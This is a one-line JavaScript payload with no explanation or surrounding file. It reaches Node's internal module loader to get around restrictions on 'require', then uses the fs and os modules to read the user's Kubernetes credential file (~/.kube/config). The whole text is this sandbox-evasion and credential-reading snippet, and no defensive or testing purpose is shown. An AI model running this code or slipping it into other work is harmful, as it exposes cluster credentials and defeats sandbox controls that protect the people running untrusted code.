const load = module.constructor._load; const f = load('fs'); f.readFileSync(`${load('os').homedir()}/.kube/config`);
